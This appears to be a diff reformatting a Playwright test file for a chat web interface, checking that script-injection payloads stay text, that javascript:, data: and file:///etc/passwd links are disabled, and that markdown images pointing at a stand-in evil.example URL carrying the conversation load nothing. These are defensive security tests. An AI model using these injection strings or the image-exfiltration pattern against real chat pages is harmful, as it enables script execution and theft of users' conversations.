@@ -1,4 +1,5 @@
-"""Whatever a model, a tool or a user writes stays text; and the page opens only to whoever may see it."""
+"""Whatever a model, a tool or a user writes stays text; and the page opens only to whoever may see
+it."""
 
 from __future__ import annotations
 
@@ -14,7 +15,8 @@ EVIL = "<img src=x onerror=\"document.title='hacked'\"><script>document.title='h
 
 
 async def test_scripts_in_any_text_stay_text(browser: Browser) -> None:
-    """In the user's words, the answer, a tool's name, arguments and result, and the operator's note."""
+    """In the user's words, the answer, a tool's name, arguments and result, and the operator's
+    note."""
     async with Site().open() as site, visit(browser, site.url) as page:
         await say(page, EVIL)
         turn = await site.turn()
@@ -25,8 +27,18 @@ async def test_scripts_in_any_text_stay_text(browser: Browser) -> None:
         await page.locator("summary").click()
         log = page.locator("#log")
         await expect(log.locator("img, script, iframe, [onerror]")).to_have_count(0)
-        for place in (".user", ".name", ".gist", ".markdown p", ".markdown strong", ".markdown code", ".note"):
-            await expect(log.locator(place).first).to_contain_text("<script>document.title='hacked'</script>")
+        for place in (
+            ".user",
+            ".name",
+            ".gist",
+            ".markdown p",
+            ".markdown strong",
+            ".markdown code",
+            ".note",
+        ):
+            await expect(log.locator(place).first).to_contain_text(
+                "<script>document.title='hacked'</script>"
+            )
         await expect(log.locator("pre")).to_have_count(3)
         assert await page.title() == "Kaiwa"
 
@@ -40,7 +52,10 @@ async def test_no_text_turns_round_what_stands_beside_it(browser: Browser) -> No
         await turn.returns(await turn.calls("look", {"a": turned}), {"b": turned})
         await turn.answers(f"{turned}\n\nשלום 1\n\n`א` 1/2 [ב](https://example.com) 3", note=turned)
         await expect_thread(
-            page, "user: abc", "tool: look abc 312 ms", "answer: abc שלום 1 א 1/2 ב 3 For whoever runs this bot: abc"
+            page,
+            "user: abc",
+            "tool: look abc 312 ms",
+            "answer: abc שלום 1 א 1/2 ב 3 For whoever runs this bot: abc",
         )
         await page.locator("summary").click()
         assert [await pre.inner_text() for pre in await page.locator(".tool pre").all()] == [
@@ -49,14 +64,19 @@ async def test_no_text_turns_round_what_stands_beside_it(browser: Browser) -> No
         ]
         directions = "all => all.map((one) => getComputedStyle(one).unicodeBidi)"
         assert set(await page.locator(".markdown p").evaluate_all(directions)) == {"plaintext"}
-        assert set(await page.locator(".markdown :is(a, code)").evaluate_all(directions)) == {"isolate"}
+        assert set(await page.locator(".markdown :is(a, code)").evaluate_all(directions)) == {
+            "isolate"
+        }
 
 
 async def test_links_lead_to_the_web_only(browser: Browser) -> None:
     """Neither scripts, nor data, nor files; and the page that is opened learns nothing of ours."""
     async with Site().open() as site, visit(browser, site.url) as page:
         await say(page, "Links?")
-        bad = "[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](/console/info)"
+        bad = (
+            "[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) "
+            "[d](/console/info)"
+        )
         await (await site.turn()).answers(f"{bad} [e](JaVaScRiPt:x) [f](https://example.com/x)")
         await expect_thread(page, "user: Links?", "answer: a b c d e f")
         [link] = await page.locator(".markdown a").all()
@@ -65,10 +85,12 @@ async def test_links_lead_to_the_web_only(browser: Browser) -> None:
 
 
 async def test_an_answer_loads_nothing_from_elsewhere(browser: Browser) -> None:
-    """An image is a link that somebody must follow: words cannot be carried away by merely being shown."""
+    """An image is a link that somebody must follow: words cannot be carried away by merely being
+    shown."""
     secret = "https://evil.example/p.png?q=everything-that-was-said"
     images = (
-        f"![a]({secret}) <img src='{secret}'> [![b]({secret})]({secret})\n\n[c]: {secret}\n\n| ![d]({secret}) |\n|-|"
+        f"![a]({secret}) <img src='{secret}'> [![b]({secret})]({secret})\n\n[c]: {secret}\n\n| "
+        f"![d]({secret}) |\n|-|"
     )
     async with Site().open() as site, visit(browser, site.url) as page:
         asked: list[str] = []
@@ -81,14 +103,15 @@ async def test_an_answer_loads_nothing_from_elsewhere(browser: Browser) -> None:
         await turn.answers(images)
         await expect(page.locator("#log")).to_have_attribute("aria-busy", "false")
         await expect(page.locator(".markdown a").first).to_have_attribute("href", secret)
-        await expect(page.locator("#log :is(img, picture, video, audio, iframe, object, link, [style])")).to_have_count(
-            0
-        )
+        await expect(
+            page.locator("#log :is(img, picture, video, audio, iframe, object, link, [style])")
+        ).to_have_count(0)
         assert [url for url in asked if not url.startswith(site.url)] == []
 
 
 async def test_the_browser_itself_would_load_nothing_from_elsewhere(browser: Browser) -> None:
-    """Should an image ever get in, it stays empty, and so does every other way out that a page has."""
+    """Should an image ever get in, it stays empty, and so does every other way out that a page
+    has."""
     tries = """(url) => new Promise((done) => {
       const refused = new Set();
       document.addEventListener("securitypolicyviolation", (event) => {
@@ -105,10 +128,16 @@ async def test_the_browser_itself_would_load_nothing_from_elsewhere(browser: Bro
 
 
 async def test_the_browser_itself_would_stop_a_script(browser: Browser) -> None:
-    """Should a mistake of ours ever let HTML in, neither its scripts run nor does the assignment work."""
+    """Should a mistake of ours ever let HTML in, neither its scripts run nor does the assignment
+    work."""
     async with Site().open() as site, visit(browser, site.url) as page:
         refused = await page.evaluate(
-            "html => { try { document.body.innerHTML = html; return '' } catch (error) { return error.name } }", EVIL
+            (
+                "html => { try { document.body.innerHTML = html; return '' } catch (error) { "
+                "return "
+                "error.name } }"
+            ),
+            EVIL,
         )
         assert refused == "TypeError"
 
